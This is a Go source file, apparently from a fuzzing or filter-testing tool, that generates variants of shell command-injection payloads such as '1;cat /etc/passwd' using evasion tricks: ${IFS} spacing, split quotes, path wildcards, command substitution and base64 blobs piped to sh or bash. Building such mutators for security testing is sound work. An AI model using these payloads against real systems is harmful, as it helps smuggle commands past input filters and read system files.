package mutate

import (
	"encoding/base64"
	"math/rand/v2"
	"strings"
)

// Shell returns mutators of commands behind a separator, such as "1;cat /etc/passwd".
// Seeds hold the separator at their first ; or |.
func Shell() []Mutator {
	return []Mutator{
		{"quotes", func(r *rand.Rand, s string) string {
			return inCommand(s, func(w string) string { return shellQuotes(r, w) })
		}},
		{"blanks", func(r *rand.Rand, s string) string {
			i := commandStart(s)
			return s[:i] + replaceSome(r, s[i:], " ", func() string { return pick(r, "${IFS}", "$IFS$9", "\t", "  ", "${IFS}", "$IFS$1") })
		}},
		{"separator", func(r *rand.Rand, s string) string {
			i := commandStart(s)
			if i == 0 || strings.Contains(s[i:], "'") {
				return s
			}
			return strings.TrimRight(s[:i], ";|& ") + pick(r, ";", "|", "||", "&&", "; ", " | ", " && ", "\n", ";;"[:1]) + s[i:]
		}},
		{"folder", func(r *rand.Rand, s string) string {
			return inCommand(s, func(w string) string {
				if strings.ContainsAny(w, "/'\"\\$?") {
					return w
				}
				return pick(r, "/bin/", "/usr/bin/", "/usr/bin/../bin/"[:9]) + w
			})
		}},
		{"wildcards", shellWildcards},
		{"substitution", func(r *rand.Rand, s string) string {
			i := commandStart(s)
			if strings.ContainsAny(s[i:], "`$") || strings.ContainsAny(s, "\n") {
				return s
			}
			return s[:i] + pick(r, "$("+s[i:]+")", "`"+s[i:]+"`")
		}},
		{"base64", func(r *rand.Rand, s string) string {
			i := commandStart(s)
			if len(s)-i > 120 {
				return s
			}
			code := base64.StdEncoding.EncodeToString([]byte(s[i:]))
			return s[:i] + pick(r, "echo "+code+"|base64 -d|sh", "echo "+code+" | base64 -d | bash", "bash<<<$(base64 -d<<<"+code+")")
		}},
		{"tail", func(r *rand.Rand, s string) string { return s + pick(r, "", " #", ";", " ;#", ";'", "\n") }},
		{"prefix", func(r *rand.Rand, s string) string {
			return pick(r, "", "127.0.0.1", "x", "'", "\"", "10", "a@b.example") + s[strings.IndexAny(s, ";|&\n"):]
		}},
	}
}

// commandStart returns where the command begins, behind the first separator.
func commandStart(s string) int {
	i := strings.IndexAny(s, ";|&\n")
	if i < 0 {
		return 0
	}
	for i < len(s) && strings.IndexByte(";|& \n\t", s[i]) >= 0 {
		i++
	}
	return i
}

// inCommand applies a change to the command's name.
func inCommand(s string, change func(string) string) string {
	i := commandStart(s)
	j := i
	for j < len(s) && strings.IndexByte(" ;|&<>\n\t$`()", s[j]) < 0 {
		j++
	}
	if j-i < 2 {
		return s
	}
	return s[:i] + change(s[i:j]) + s[j:]
}

// shellQuotes hides a word in quotes, escapes and expansions that vanish.
func shellQuotes(r *rand.Rand, w string) string {
	if strings.ContainsAny(w, `'"\$?`) {
		return w
	}
	at := 1 + r.IntN(len(w)-1)
	if r.IntN(5) == 0 {
		return w[:at] + "'" + w[at:at+1] + "'" + w[at+1:]
	}
	return w[:at] + pick(r, "''", `""`, `\`, "$@", "$1", "$()", "``", "${x}") + w[at:]
}

// shellWildcards puts wildcards into the paths of arguments.
func shellWildcards(r *rand.Rand, s string) string {
	if strings.Contains(s, "etc/passwd") {
		return strings.Replace(s, "etc/passwd", pick(r, "e?c/p?sswd", "e*c/pass*", "etc/pass??", "??c/p??s??", "et''c/passwd"), 1)
	}
	return s
}
